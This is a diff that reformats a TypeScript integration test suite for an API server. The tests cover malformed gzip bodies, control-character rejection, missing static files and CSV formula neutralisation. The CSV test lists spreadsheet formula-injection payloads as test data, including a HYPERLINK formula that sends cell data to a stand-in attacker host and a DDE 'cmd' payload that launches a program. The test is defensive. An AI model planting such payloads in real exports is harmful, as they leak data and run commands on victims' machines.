@@ -30,13 +30,23 @@ beforeAll(async () => {
   token = await serviceToken(server.db);
   await insertCountry(server.db, 'FR', { name: 'France' });
 });
-afterAll(async () => { await server?.close(); });
+afterAll(async () => {
+  await server?.close();
+});
 
 const integration = (p: string, body: BodyInit, headers: Record<string, string> = {}) =>
-  fetch(`${server.baseUrl}/api/integration/${p}`, { method: 'POST', headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json', ...headers }, body });
+  fetch(`${server.baseUrl}/api/integration/${p}`, {
+    method: 'POST',
+    headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json', ...headers },
+    body,
+  });
 const NOTICE = {
-  category: 'STATEMENT_CATEGORY_ILLEGAL_OR_HARMFUL_SPEECH', explanation: 'This review falsely accuses a named manager of fraud: defamation.',
-  locations: ['https://forum.example/thread/9'], notifierName: 'Jeanne Martin', notifierEmail: 'jeanne.edge@example.org', goodFaith: true,
+  category: 'STATEMENT_CATEGORY_ILLEGAL_OR_HARMFUL_SPEECH',
+  explanation: 'This review falsely accuses a named manager of fraud: defamation.',
+  locations: ['https://forum.example/thread/9'],
+  notifierName: 'Jeanne Martin',
+  notifierEmail: 'jeanne.edge@example.org',
+  goodFaith: true,
 };
 
 async function expectError(res: Response, status: number, code: string) {
@@ -51,18 +61,36 @@ describe('a body whose Content-Encoding does not decode: 400, on every JSON rout
   const notGzip = { 'content-encoding': 'gzip' };
   const garbage = 'this is not gzip at all';
   test.each([
-    ['sign-in', () => fetch(`${server.baseUrl}/api/auth/login`, { method: 'POST', headers: { 'content-type': 'application/json', 'x-kolet-csrf': '1', ...notGzip }, body: garbage })],
+    [
+      'sign-in',
+      () =>
+        fetch(`${server.baseUrl}/api/auth/login`, {
+          method: 'POST',
+          headers: { 'content-type': 'application/json', 'x-kolet-csrf': '1', ...notGzip },
+          body: garbage,
+        }),
+    ],
     ['a resource', () => catalog('/api/countries', { method: 'POST', headers: notGzip, body: garbage })],
     ['an action', () => support('/api/messages/1/retry', { method: 'POST', headers: notGzip, body: garbage })],
     ['the integration API', () => integration('accounts', garbage, notGzip)],
-    ['the public notice intake', () => fetch(`${server.baseUrl}/public/dsa-notices`, { method: 'POST', headers: { 'content-type': 'application/json', ...notGzip }, body: garbage })],
+    [
+      'the public notice intake',
+      () =>
+        fetch(`${server.baseUrl}/public/dsa-notices`, {
+          method: 'POST',
+          headers: { 'content-type': 'application/json', ...notGzip },
+          body: garbage,
+        }),
+    ],
   ])('%s', async (_name, call) => {
     const body = await expectError(await call(), 400, 'undecodable_body');
     expect(body.message).toMatch(/Content-Encoding/);
   });
 
   test('a body that really is gzip is read as usual', async () => {
-    const res = await integration('accounts', gzipSync(JSON.stringify({ email: `gzip-${Date.now()}@example.com` })), { 'content-encoding': 'gzip' });
+    const res = await integration('accounts', gzipSync(JSON.stringify({ email: `gzip-${Date.now()}@example.com` })), {
+      'content-encoding': 'gzip',
+    });
     expect(res.status).toBe(201);
   });
 });
@@ -80,22 +108,36 @@ describe('control characters are refused with 400 naming the field, and nothing 
   test('a staff action: a reason with a NUL or an escape character', async () => {
     const accountId = await insertAccount(server.db);
     for (const reason of ['closing\u0000 on request', 'closing \u001b[31m on request']) {
-      const body = await expectError(await support(`/api/accounts/${accountId}/deactivate`, { method: 'POST', body: JSON.stringify({ reason }) }), 400, 'invalid_input');
+      const body = await expectError(
+        await support(`/api/accounts/${accountId}/deactivate`, { method: 'POST', body: JSON.stringify({ reason }) }),
+        400,
+        'invalid_input',
+      );
       expect(Object.keys(body.errors!)).toEqual(['reason']);
     }
     expect((await server.db('accounts').where({ id: accountId }).first('status')).status).toBe('active');
   });
 
   test('the resource router: nested values and field names', async () => {
-    const body = await expectError(await catalog('/api/countries', { method: 'POST', body: JSON.stringify({ id: 'DE', operators: ['Telekom', 'O2\u0007'] }) }), 400, 'invalid_input');
+    const body = await expectError(
+      await catalog('/api/countries', { method: 'POST', body: JSON.stringify({ id: 'DE', operators: ['Telekom', 'O2\u0007'] }) }),
+      400,
+      'invalid_input',
+    );
     expect(body.errors).toEqual({ 'operators.1': 'must not contain control characters' });
-    const key = await expectError(await catalog('/api/countries', { method: 'POST', body: JSON.stringify({ id: 'DE', 'na\u0000me': 'x' }) }), 400, 'invalid_input');
+    const key = await expectError(
+      await catalog('/api/countries', { method: 'POST', body: JSON.stringify({ id: 'DE', 'na\u0000me': 'x' }) }),
+      400,
+      'invalid_input',
+    );
     expect(Object.keys(key.errors!)).toEqual(['na?me']);
     expect(await countRows(server.db, 'countries', { code: 'DE' })).toBe(0);
   });
 
   test('a query string: a list filter and the search box', async () => {
-    expect((await expectError(await support(`/api/accounts?range=%5B0,9%5D&sort=%5B%22id%22,%22ASC%22%5D%00`), 400, 'invalid_input')).errors).toEqual({ sort: 'must not contain NUL characters' });
+    expect(
+      (await expectError(await support(`/api/accounts?range=%5B0,9%5D&sort=%5B%22id%22,%22ASC%22%5D%00`), 400, 'invalid_input')).errors,
+    ).toEqual({ sort: 'must not contain NUL characters' });
     // Inside the filter's JSON a NUL is an escape (\u0000), refused by the list query's own check.
     expect((await support(`/api/accounts?filter=${encodeURIComponent(JSON.stringify({ email: 'a\u0000' }))}`)).status).toBe(400);
     const search = await expectError(await support('/api/accounts/search?q=ab%00cd'), 400, 'invalid_input');
@@ -103,17 +145,34 @@ describe('control characters are refused with 400 naming the field, and nothing 
   });
 
   test('sign-in', async () => {
-    const res = await fetch(`${server.baseUrl}/api/auth/login`, { method: 'POST', headers: { 'content-type': 'application/json', 'x-kolet-csrf': '1' }, body: JSON.stringify({ email: nul, password: 'whatever it is' }) });
+    const res = await fetch(`${server.baseUrl}/api/auth/login`, {
+      method: 'POST',
+      headers: { 'content-type': 'application/json', 'x-kolet-csrf': '1' },
+      body: JSON.stringify({ email: nul, password: 'whatever it is' }),
+    });
     expect((await expectError(res, 400, 'invalid_input')).errors).toEqual({ email: 'must not contain NUL characters' });
   });
 
   test('the public notice intake (JSON) and its HTML form', async () => {
     const before = await countRows(server.db, 'dsa_notices');
-    const res = await fetch(`${server.baseUrl}/public/dsa-notices`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ ...NOTICE, notifierName: 'Jeanne\u0000Martin' }) });
+    const res = await fetch(`${server.baseUrl}/public/dsa-notices`, {
+      method: 'POST',
+      headers: { 'content-type': 'application/json' },
+      body: JSON.stringify({ ...NOTICE, notifierName: 'Jeanne\u0000Martin' }),
+    });
     expect((await expectError(res, 400, 'invalid_input')).errors).toEqual({ notifierName: 'must not contain NUL characters' });
     const form = await fetch(`${server.baseUrl}/report-illegal-content?lang=en`, {
-      method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, redirect: 'manual',
-      body: new URLSearchParams({ category: NOTICE.category, explanation: NOTICE.explanation, locations: NOTICE.locations[0]!, notifierName: 'Jeanne\u0000', notifierEmail: NOTICE.notifierEmail, goodFaith: 'yes' }),
+      method: 'POST',
+      headers: { 'content-type': 'application/x-www-form-urlencoded' },
+      redirect: 'manual',
+      body: new URLSearchParams({
+        category: NOTICE.category,
+        explanation: NOTICE.explanation,
+        locations: NOTICE.locations[0]!,
+        notifierName: 'Jeanne\u0000',
+        notifierEmail: NOTICE.notifierEmail,
+        goodFaith: 'yes',
+      }),
     });
     expect(form.status).toBe(400);
     expect(await form.text()).toContain('notifierName');
@@ -122,7 +181,10 @@ describe('control characters are refused with 400 naming the field, and nothing 
 
   test('multi-line text keeps its tabs and line breaks', async () => {
     const accountId = await insertAccount(server.db);
-    const res = await support(`/api/accounts/${accountId}/deactivate`, { method: 'POST', body: JSON.stringify({ reason: 'Asked by e-mail:\r\n\t"please close my account"' }) });
+    const res = await support(`/api/accounts/${accountId}/deactivate`, {
+      method: 'POST',
+      body: JSON.stringify({ reason: 'Asked by e-mail:\r\n\t"please close my account"' }),
+    });
     expect(res.status).toBe(200);
   });
 });
@@ -137,10 +199,17 @@ describe('static files that are not there: 404, never a 500, and no error logged
     fs.mkdirSync(path.join(spaDir, 'assets'));
     fs.writeFileSync(path.join(spaDir, 'index.html'), '<!doctype html><title>console</title>');
     fs.writeFileSync(path.join(spaDir, 'assets', 'app.js'), 'console.log(1)');
-    const sink = new Writable({ write(chunk, _enc, done) { for (const line of String(chunk).split('\n').filter(Boolean)) logged.push(JSON.parse(line)); done(); } });
+    const sink = new Writable({
+      write(chunk, _enc, done) {
+        for (const line of String(chunk).split('\n').filter(Boolean)) logged.push(JSON.parse(line));
+        done();
+      },
+    });
     const logger = pino({ level: 'info' }, sink);
     const e = createApp(server.db, { ...loadConfig({ NODE_ENV: 'test' }), logLevel: 'info' }, logger, { staticDir: spaDir });
-    app = await new Promise((resolve) => { const s = e.listen(0, '127.0.0.1', () => resolve(s)); });
+    app = await new Promise((resolve) => {
+      const s = e.listen(0, '127.0.0.1', () => resolve(s));
+    });
     base = `http://127.0.0.1:${(app.address() as AddressInfo).port}`;
   });
   afterAll(async () => {
@@ -163,7 +232,7 @@ describe('static files that are not there: 404, never a 500, and no error logged
     expect(await res.text()).not.toMatch(/at .+:\d+:\d+|node_modules/);
   });
 
-  test('files that are there are served, and the console\'s routes get its page', async () => {
+  test("files that are there are served, and the console's routes get its page", async () => {
     expect((await fetch(`${base}/public/assets/public.css`)).status).toBe(200);
     expect((await fetch(`${base}/assets/app.js`)).status).toBe(200);
     const page = await fetch(`${base}/accounts/12/show`);
@@ -179,7 +248,7 @@ describe('static files that are not there: 404, never a 500, and no error logged
 
 describe('CSV exports: a cell a spreadsheet would run as a formula is neutralised (OWASP)', () => {
   test('the plans CSV: =HYPERLINK(…) and friends are exported as text, and import back unchanged', async () => {
-    const evil = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,1)', '\t=1+1', '\r=1+1'];
+    const evil = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(1,1)', '\t=1+1', '\r=1+1'];
     for (const name of evil) await insertPlan(server.db, { country_code: 'FR', region_name: null, name });
     const res = await catalog('/api/countries/FR/plans.csv');
     expect(res.status).toBe(200);
@@ -191,10 +260,13 @@ describe('CSV exports: a cell a spreadsheet would run as a formula is neutralise
 
     const dryRun = await catalog('/api/countries/FR/plans-import', { method: 'POST', body: JSON.stringify({ csv, dryRun: true }) });
     expect(dryRun.status).toBe(200);
-    const report = await dryRun.json() as { created: unknown[]; errors: unknown[]; updated: { changes: { name?: [string, string] } }[] };
+    const report = (await dryRun.json()) as { created: unknown[]; errors: unknown[]; updated: { changes: { name?: [string, string] } }[] };
     expect(report.created).toEqual([]);
     expect(report.errors).toEqual([]);
     // The import trims each cell, so only the names that began with a tab or a carriage return come back changed.
-    expect(report.updated.map((u) => u.changes.name)).toEqual([['\t=1+1', '=1+1'], ['\r=1+1', '=1+1']]);
+    expect(report.updated.map((u) => u.changes.name)).toEqual([
+      ['\t=1+1', '=1+1'],
+      ['\r=1+1', '=1+1'],
+    ]);
   });
 });
